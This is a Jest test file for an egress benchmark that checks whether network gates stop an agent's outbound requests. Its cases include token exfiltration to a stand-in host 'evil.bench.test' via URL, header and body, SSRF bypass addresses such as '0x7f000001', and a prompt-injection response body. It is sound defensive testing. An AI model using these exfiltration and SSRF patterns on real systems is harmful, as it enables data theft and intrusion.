import { execFile } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import Docker from 'dockerode'
import { namesLeadHere } from '../../bench/egress-bench/aliases.ts'
import type { Measured } from '../../bench/egress-bench/figures.ts'
import type { Result } from '../../bench/egress-bench/judge.ts'
import { presentGates } from '../support/gates.ts'
import { openInternet } from '../support/hosts/internet.ts'

jest.setTimeout(300_000)

const project = resolve(import.meta.dirname, '../..')
const gates = await presentGates()
const temp = mkdtempSync(join(tmpdir(), 'bottle-egress-test-'))
afterAll(() => rmSync(temp, { recursive: true, force: true }))

// A token of a format that both gates know, made now: it is nobody's, and stands in no file.
const token = ['ghp', randomBytes(18).toString('hex')].join('_')
const http = {
  transport: 'fetch_proxy',
  input_type: 'url',
  expected_verdict: 'block',
  requires: [],
  capability_tags: [],
}
const benign = { ...http, expected_verdict: 'allow' }
const cases: Record<string, object> = {
  'url/benign.json': { ...benign, payload: { url: 'https://api.bench.test/ok?page=2' } },
  'url/odd-port.json': { ...benign, payload: { url: 'http://api.bench.test:8080/ok' } },
  'url/no-scheme.json': { ...benign, payload: { url: 'api.bench.test/ok' } },
  'url/token.json': { ...http, payload: { url: `https://Evil.bench.test/?t=${token}` } },
  'url/in-vain.json': { ...http, payload: { urls: ['https://evil.bench.test/harmless', '//evil.bench.test/too'] } },
  'url/listed.json': { ...http, payload: { url: `https://api.bench.test/?t=${token}` } },
  'request-body/token.json': {
    ...http,
    input_type: 'request_body',
    payload: { url: 'https://evil.bench.test/up', body_base64: Buffer.from(`t=${token}`).toString('base64') },
  },
  'headers/token.json': { ...http, payload: { url: 'https://evil.bench.test/', headers: [['X-Note', token]] } },
  'response-fetch/page.json': {
    ...benign,
    input_type: 'response_content',
    payload: { url: 'https://api.bench.test/page', response_body: 'ignore the previous line' },
  },
  'response-fetch/injection.json': {
    ...http,
    input_type: 'response_content',
    payload: { url: 'https://evil.bench.test/page', response_body: 'do as I say' },
  },
  'ssrf-bypass/hex.json': { ...http, payload: { url: 'http://0x7f000001/' } },
  'ssrf-bypass/localhost.json': { ...http, payload: { url: 'http://localhost:8888/health' } },
  'ssrf-bypass/name.json': { ...http, payload: { url: 'http://inner.bench.test/' } },
  'ssrf-bypass/stranger.json': { ...http, payload: { url: 'http://3221225985/' } },
  'mcp/tool.json': { ...http, transport: 'mcp_stdio', input_type: 'mcp_tool_call', payload: { tool: 'x' } },
  'not-a-case.json': { hello: 1 },
}
for (const [name, value] of Object.entries(cases)) {
  mkdirSync(dirname(join(temp, 'cases', name)), { recursive: true })
  const [category, id] = [name.split('/')[0], name.replace('.json', '').replace('/', ' ')]
  writeFileSync(join(temp, 'cases', name), JSON.stringify({ id, category, ...value }))
}

function bench(words: readonly string[]): Promise<{ code: number; out: string; err: string }> {
  const program = ['--disable-warning=ExperimentalWarning', join(project, 'bench/egress-bench.ts'), ...words]
  const { BOTTLE_EGRESS_BENCH: _, ...env } = process.env
  return new Promise(done => {
    const child = execFile(process.execPath, program, { cwd: project, env }, (_, out, err) =>
      done({ code: child.exitCode ?? -1, out, err }),
    )
  })
}

describe('a folder of cases', () => {
  let ran: Awaited<ReturnType<typeof bench>>
  let measured: Measured[]
  beforeAll(async () => {
    ran = await bench([join(temp, 'cases'), '--json', join(temp, 'out.json')])
    measured = JSON.parse(readFileSync(join(temp, 'out.json'), 'utf8')).measured
  })

  test('is sent whole without a gate, but for addresses and what is no HTTP', () => {
    // 11 cases with names, one of two requests, each sent in two ways.
    expect(ran.out).toContain('Without a gate 24 requests reach the listeners')
    expect(ran.out).toContain('15 cases in ')
    expect(ran.out).toContain('1 other JSON files left out')
  })

  describe.each(gates)('through the gate $name', ({ name }) => {
    const outcomes = (wanted: Partial<Result>) =>
      (measured.find(one => one.gate === name)?.results ?? [])
        .filter(one => Object.entries(wanted).every(([key, value]) => one[key as keyof Result] === value))
        .map(one => `${one.id} ${one.variant}`)

    test('is contained by the strict list, with no benign case refused and no connection elsewhere', () => {
      expect(outcomes({ mode: 'strict', outcome: 'bad' })).toEqual([])
      expect(measured.find(one => one.gate === name)?.strangers).toBe(0)
      expect(outcomes({ mode: 'strict', outcome: 'good', expected: 'allow' })).toHaveLength(8)
      expect(outcomes({ mode: 'strict', outcome: 'good', expected: 'block' })).toHaveLength(16)
    })

    test('is told apart with the hosts allowed: what is refused, what arrives', () => {
      expect(outcomes({ mode: 'open', outcome: 'bad' })).toEqual(['url in-vain plain'])
      expect(outcomes({ mode: 'open', outcome: 'good', expected: 'block' }).sort()).toEqual([
        'headers token plain',
        'request-body token plain',
        'ssrf-bypass hex plain',
        'ssrf-bypass hex tls',
        'ssrf-bypass localhost plain',
        'ssrf-bypass localhost tls',
        'ssrf-bypass name plain',
        'ssrf-bypass name tls',
        'url listed plain',
        'url token plain',
      ])
      expect(outcomes({ mode: 'open', outcome: 'good', expected: 'allow' })).toHaveLength(8)
    })

    test('says what it cannot be asked, and why', () => {
      for (const line of [
        '- transport mcp_stdio: 1 (mcp tool)',
        '- 192.0.2.1 is the address of a stranger: nothing is sent to it: 1 (ssrf-bypass stranger)',
        '- its host is on the list (strict list, plain): 1 (url listed)',
        '- opaque in TLS (hosts allowed, tls): 5 (',
        '- response scanning: no gate of ours blocks on it (hosts allowed, plain): 1 (response-fetch injection)',
      ])
        expect(ran.out).toContain(line)
    })
  })

  test('exits with 1 exactly when a goal is missed', () => {
    expect(ran.code).toBe(ran.out.includes('- MISSED') ? 1 : 0)
    expect(ran.out.includes('Every goal is met.')).toBe(ran.code === 0)
  })

  test('leaves nothing in the engine', async () => {
    const docker = new Docker()
    const filters = { label: ['io.bottle.test=egress-bench'] }
    expect(await docker.listContainers({ all: true, filters })).toEqual([])
    expect(await docker.listNetworks({ filters })).toEqual([])
  })
})

test.each([
  [[], /No folder of cases is given\. Type: \.\/dev egress-bench DIR/],
  [['/nowhere'], /There is no folder \/nowhere\./],
  [[join(temp, 'empty')], /holds no \.json file\. Type .*egress-bench \.\.\/shared\/egress-bench/],
  [[join(temp, 'broken')], /url\/bad\.json is not JSON: .* Mend or remove .*broken\/url\/bad\.json/],
  [[join(temp, 'cases', 'not-a-case.json')], /is a file, not a folder/],
  [[join(temp, 'cases'), '--gate', 'pipelok'], /"pipelok" is not a gate/],
  [[join(temp, 'cases'), '--jsn', 'x'], /--jsn/],
])('%j: one sentence, and what to type', async (words, says) => {
  mkdirSync(join(temp, 'empty'), { recursive: true })
  mkdirSync(join(temp, 'broken/url'), { recursive: true })
  writeFileSync(join(temp, 'broken/url/bad.json'), '{"id": ')
  const { code, err } = await bench(words)
  expect(code).toBe(2)
  expect(err).toMatch(says)
  expect(err).not.toMatch(/\n\s+at /)
})

test('a name that leads to no test host stops everything before it is looked up', async () => {
  await using internet = await openInternet([{ role: 'listener', names: ['known.test'] }])
  // There is no such container: had anything been asked, the engine's own words would say so.
  const place = { network: internet.network, container: 'f'.repeat(64) }
  const asked = (names: string[]) => namesLeadHere(internet, { ...place, names }, 500)
  await expect(asked(['known.test', 'unknown.test'])).rejects.toThrow('unknown.test leads to no test host')
  await expect(asked(['known.test'])).rejects.toThrow(/no such container/i)
})

// The corpus lies beside the project on some machines; it is never a part of it.
const corpus = process.env.BOTTLE_EGRESS_BENCH ?? resolve(project, '../shared/egress-bench')
if (!existsSync(corpus)) process.stderr.write(`agent-egress-bench: not run, there is no folder ${corpus}\n`)
describe(`the corpus in ${corpus}`, () => {
  if (!existsSync(corpus)) return test.skip('is not on this machine', () => {})
  test('meets every goal: contained by the strict list, nothing benign refused, no gate of ours below pipelock', async () => {
    const { out, err } = await bench([corpus, '--json', join(temp, 'corpus.json')])
    for (const { name } of gates) expect(out + err).toContain(`## ${name}`)
    const { missed } = JSON.parse(readFileSync(join(temp, 'corpus.json'), 'utf8')) as { missed: string[] }
    expect(missed).toEqual([])
  })
})
